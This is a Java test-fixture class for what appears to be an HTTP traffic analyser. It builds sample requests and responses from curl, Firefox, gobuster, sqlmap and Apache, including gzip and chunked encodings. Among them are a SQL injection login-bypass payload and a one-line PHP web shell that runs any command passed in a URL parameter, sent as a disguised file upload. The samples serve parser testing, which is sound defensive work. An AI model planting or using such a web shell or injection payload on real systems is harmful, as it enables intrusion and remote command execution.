package org.nta.app.http;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/** Realistic messages as the named tools and servers send them. */
final class Samples {
    private Samples() {}

    static final String CURL_GET = "GET /index.php?id=1&name=a+b HTTP/1.1\r\n"
            + "Host: 10.251.96.5\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n";

    static final String FIREFOX_GET = "GET /editprofile.php HTTP/1.1\r\n"
            + "Host: 10.251.96.5\r\n"
            + "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\n"
            + "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\n"
            + "Accept-Language: en-US,en;q=0.5\r\n"
            + "Accept-Encoding: gzip, deflate\r\n"
            + "Connection: keep-alive\r\n"
            + "Referer: http://10.251.96.5/index.php\r\n"
            + "Cookie: PHPSESSID=2b7c9f1e0d8a; theme=dark\r\n"
            + "Upgrade-Insecure-Requests: 1\r\n\r\n";

    static String gobuster(String path) {
        return "GET /" + path + " HTTP/1.1\r\nHost: 10.251.96.5\r\nUser-Agent: gobuster/3.5\r\n"
                + "Accept-Encoding: gzip\r\n\r\n";
    }

    static final String SQLMAP_BODY = "username=admin%27%20OR%20%271%27%3D%271&password=x&password=y";
    static final String SQLMAP_POST = "POST /index.php HTTP/1.1\r\n"
            + "Content-Length: " + SQLMAP_BODY.length() + "\r\n"
            + "Cache-Control: no-cache\r\n"
            + "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n"
            + "Host: 10.251.96.5\r\n"
            + "Accept: */*\r\n"
            + "Accept-Encoding: gzip,deflate\r\n"
            + "Content-Type: application/x-www-form-urlencoded; charset=utf-8\r\n"
            + "Connection: close\r\n\r\n" + SQLMAP_BODY;

    static final String WEBSHELL = "<?php\nif (isset($_GET[\"cmd\"])) { system($_GET[\"cmd\"]); }\n?>\n";
    static final String WEBSHELL_SHA256 = "7f132cd3059416d61807d2cf4dfdda86ef73d092213eb0f3a3dcb3d1fce9868b";
    static final String CURL_BOUNDARY = "------------------------92a3cc79bf0928f0";
    static final String CURL_MULTIPART_BODY = "--" + CURL_BOUNDARY + "\r\n"
            + "Content-Disposition: form-data; name=\"fileToUpload\"; filename=\"dbfunctions.php\"\r\n"
            + "Content-Type: application/octet-stream\r\n\r\n"
            + WEBSHELL + "\r\n"
            + "--" + CURL_BOUNDARY + "\r\n"
            + "Content-Disposition: form-data; name=\"submit\"\r\n\r\n"
            + "Upload\r\n"
            + "--" + CURL_BOUNDARY + "--\r\n";
    static final String CURL_MULTIPART = "POST /upload.php HTTP/1.1\r\n"
            + "Host: 10.251.96.5\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
            + "Content-Length: " + CURL_MULTIPART_BODY.length() + "\r\n"
            + "Content-Type: multipart/form-data; boundary=" + CURL_BOUNDARY + "\r\n\r\n"
            + CURL_MULTIPART_BODY;

    static final String PAGE = "<!DOCTYPE html>\n<html><head><title>Portal</title></head><body>"
            + "<h1>Welcome</h1>" + "<p>Lorem ipsum dolor sit amet. </p>".repeat(40) + "</body></html>\n";

    static final String APACHE_404_BODY = "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n"
            + "<title>404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n"
            + "<p>The requested URL was not found on this server.</p>\n<hr>\n"
            + "<address>Apache/2.4.71 (Debian) Server at 10.251.96.5 Port 80</address>\n</body></html>\n";
    static final String APACHE_404 = "HTTP/1.1 404 Not Found\r\n"
            + "Date: Sat, 28 Nov 2026 07:27:40 GMT\r\nServer: Apache/2.4.71 (Debian)\r\n"
            + "Content-Length: " + APACHE_404_BODY.length() + "\r\n"
            + "Keep-Alive: timeout=5, max=100\r\nConnection: Keep-Alive\r\n"
            + "Content-Type: text/html; charset=iso-8859-1\r\n\r\n" + APACHE_404_BODY;

    static String ok(String body, String type) {
        return "HTTP/1.1 200 OK\r\nDate: Sat, 28 Nov 2026 07:27:40 GMT\r\nServer: Apache/2.4.71 (Debian)\r\n"
                + "Content-Length: " + body.getBytes(StandardCharsets.ISO_8859_1).length + "\r\n"
                + "Content-Type: " + type + "\r\n\r\n" + body;
    }

    /** Apache with mod_deflate: gzip, chunked in three chunks (one with an extension), a trailer. */
    static byte[] apacheChunkedGzip(String page) {
        byte[] gz = gzip(page.getBytes(StandardCharsets.UTF_8));
        int a = gz.length / 3;
        int b = 2 * gz.length / 3;
        return Conv.concat(Conv.bytes("HTTP/1.1 200 OK\r\nDate: Sat, 28 Nov 2026 07:27:40 GMT\r\n"
                        + "Server: Apache/2.4.71 (Debian)\r\nVary: Accept-Encoding\r\nContent-Encoding: gzip\r\n"
                        + "Transfer-Encoding: chunked\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n"),
                chunk(gz, 0, a, ""), chunk(gz, a, b, ";name=value"), chunk(gz, b, gz.length, ""),
                Conv.bytes("0\r\nX-Trailer: done\r\n\r\n"));
    }

    static byte[] chunk(byte[] data, int from, int to, String ext) {
        return Conv.concat(Conv.bytes(Integer.toHexString(to - from) + ext + "\r\n"),
                java.util.Arrays.copyOfRange(data, from, to), Conv.bytes("\r\n"));
    }

    static byte[] gzip(byte[] b) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (GZIPOutputStream g = new GZIPOutputStream(out)) {
                g.write(b);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] deflate(byte[] b, boolean raw) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (DeflaterOutputStream d = new DeflaterOutputStream(out, new Deflater(6, raw))) {
                d.write(b);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] encodedResponse(String coding, byte[] encoded) {
        return Conv.concat(Conv.bytes("HTTP/1.1 200 OK\r\nContent-Encoding: " + coding + "\r\nContent-Length: "
                + encoded.length + "\r\nContent-Type: text/html\r\n\r\n"), encoded);
    }
}
